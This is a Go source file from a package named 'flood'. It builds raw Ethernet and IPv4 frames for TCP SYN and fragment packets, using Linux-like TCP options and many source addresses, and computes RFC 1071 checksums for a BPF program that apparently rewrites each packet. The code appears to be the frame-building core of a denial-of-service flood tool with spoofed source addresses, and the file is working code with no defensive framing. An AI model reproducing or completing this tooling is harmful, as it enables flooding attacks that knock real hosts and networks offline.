package flood

import (
	"encoding/binary"
	"errors"
)

const frameBytes = 74

// synOptions are those of a Linux client: MSS 1460, SACK, timestamps, window scale 7.
var synOptions = []byte{2, 4, 0x05, 0xb4, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7}

// frame is what all frames have in common: source address, source port and both checksums are 0.
func (o Options) frame() ([]byte, error) {
	if len(o.Source) != 6 || len(o.Destination) != 6 || !o.Target.Addr().Is4() || o.NumSources > 0 && !o.FirstSource.Is4() {
		return nil, errors.New("flood: give two Ethernet addresses, an IPv4 target and an IPv4 source")
	}
	f := make([]byte, 0, frameBytes)
	f = append(f, o.Destination...)
	f = append(f, o.Source...)
	f = append(f, 0x08, 0x00)
	f = append(f, 0x45, 0, 0, frameBytes-14, 0, 0, 0x40, 0, 64, o.Kind.protocol(), 0, 0, 0, 0, 0, 0)
	if o.Kind == Fragment {
		f[20], f[21] = 0, 8 // at byte 64, the last one
	}
	target := o.Target.Addr().As4()
	f = append(f, target[:]...)
	return append(f, o.Kind.transport(o.Target.Port())...), nil
}

// sum is the one's complement sum of RFC 1071 in the byte order of the host, which is that of the BPF program.
func sum(b []byte) uint64 {
	var s uint64
	for i := 0; i < len(b); i += 2 {
		s += uint64(binary.NativeEndian.Uint16(b[i:]))
	}
	for s > 0xffff {
		s = s>>16 + s&0xffff
	}
	return s
}

// pseudoSum covers the segment and its pseudo header (RFC 9293 section 3.1), the source left out.
func pseudoSum(frame []byte) uint64 {
	segment := frame[34:]
	pseudo := append([]byte{}, frame[30:34]...)
	pseudo = append(pseudo, 0, 6, 0, byte(len(segment)))
	return sum(append(pseudo, segment...))
}
